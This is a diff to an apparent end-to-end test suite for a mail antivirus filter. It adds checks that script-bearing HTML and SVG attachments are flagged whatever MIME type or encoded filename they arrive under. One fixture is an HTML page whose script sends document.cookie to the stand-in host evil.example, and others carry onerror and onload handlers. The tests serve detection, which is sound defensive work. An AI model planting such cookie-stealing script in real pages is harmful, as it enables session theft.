@@ -708,10 +708,12 @@ class AntivirusE2E(unittest.TestCase):
                 mixed, "--L\r\nContent-Type: message/rfc822\r\n\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n" +
                        pgp_part + pgp + footer, encrypted),
             # Past the MIME walk's limits (1 MiB of part header fields
-            # first): not looked at, so counted as there.
+            # first): not looked at, so counted as there (and so is an
+            # HTML attachment with a script: any part may be one).
             "PGP/MIME past the walk's limits": (
                 mixed, "".join("--L\r\nContent-Type: text/plain\r\nX-Pad: %s\r\n\r\n%d\r\n" % ("y" * 1100, i)
-                               for i in range(1000)) + "--L\r\n" + pgp_part + pgp + footer, encrypted),
+                               for i in range(1000)) + "--L\r\n" + pgp_part + pgp + footer,
+                encrypted + b"; suspicious: Heuristics.HTML.Script"),
             "inline PGP": ([], "Hello,\r\n\r\n" + armor, encrypted),
             "inline PGP, quoted-printable in a part": (
                 mixed, "--L\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
@@ -893,6 +895,34 @@ class AntivirusE2E(unittest.TestCase):
                     "--A\r\nContent-Type: %s; charset=us-ascii\r\n\r\n"
                     "<p>hi</p><img src=x onerror=\"steal()\">\r\n--A--\r\n" % html_type, "html-alt")
 
+    def test_html_attachments_are_checked_whatever_type_they_are_sent_as(self):
+        # "HTML smuggling": a page with a script attached as
+        # application/octet-stream opens in the browser by its name; an SVG
+        # image can hold a script too. Only text/html parts were checked
+        # before: these were delivered as clean.
+        page = b"<html><body><script>location='https://evil.example/'+document.cookie</script></body></html>\n"
+        svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><circle r="5"/></svg>\n'
+        ja_name = "=?UTF-8?B?" + base64.b64encode("請求書.html".encode()).decode() + "?="
+        for label, payload, name_params in [
+                ("invoice.html", page, 'name="invoice.html"'),
+                ("an RFC 2047-encoded Japanese name", page, 'name="%s"' % ja_name),
+                ("an RFC 2231-encoded name", page, "name*=UTF-8''invoice%2E%68tml"),
+                ("an SVG image", svg, 'name="logo.svg"')]:
+            with self.subTest(label):
+                ctype = "image/svg+xml" if payload is svg else "application/octet-stream"
+                self.assertDeliveredMarkedHtmlScript(
+                    ["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"M\""],
+                    "--M\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
+                    "--M\r\nContent-Type: %s; %s\r\nContent-Transfer-Encoding: base64\r\n\r\n%s"
+                    "--M--\r\n" % (ctype, name_params, base64.encodebytes(payload).decode().replace("\n", "\r\n")),
+                    "html-att")
+        # The same page as a .txt is text, not run.
+        msgid = self.msgid("txt-att")
+        r = self.send(with_attachment(page, "notes.txt", "text/plain", msgid=msgid))
+        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
+        got, _ = self.delivered(msgid)
+        self.assertIn(b"X-Virus-Status: clean\n", got)
+
     def test_html_too_long_to_check_whole_is_marked(self):
         # Found in review: the HTML check reads the first 8 MiB of a part;
         # a script after 8 MiB of padding was delivered as clean.
@@ -1000,6 +1030,19 @@ class AntivirusE2E(unittest.TestCase):
             self.assertEqual(msg.get_all("Content-Transfer-Encoding"), ["base64"])
             # (swaks ends the DATA with an empty line of its own)
             self.assertEqual(msg.get_payload(decode=True).rstrip(b"\r\n"), b"<p>hi</p>")
+
+            # An SVG attachment stays an SVG image, named as it was.
+            msgid = self.msgid("strip-svg")
+            svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><circle r="5"/></svg>\n'
+            r = self.send(with_attachment(svg, "logo.svg", "image/svg+xml", msgid=msgid))
+            self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
+            got, msg = self.delivered(msgid)
+            self.assertIn(b"X-Virus-Status: clean; stripped: Heuristics.HTML.Script", got)
+            image = [p for p in msg.walk() if p.get_filename() == "logo.svg"]
+            self.assertEqual(len(image), 1, got[-2000:])
+            self.assertEqual(image[0].get_content_type(), "image/svg+xml")
+            self.assertEqual(image[0].get_payload(decode=True).rstrip(b"\n"),
+                             b'<svg xmlns="http://www.w3.org/2000/svg" ><circle r="5"/></svg>')
         finally:
             self.milter.write_conf(self.conf(port=self.site.port))
             self.milter.reload()
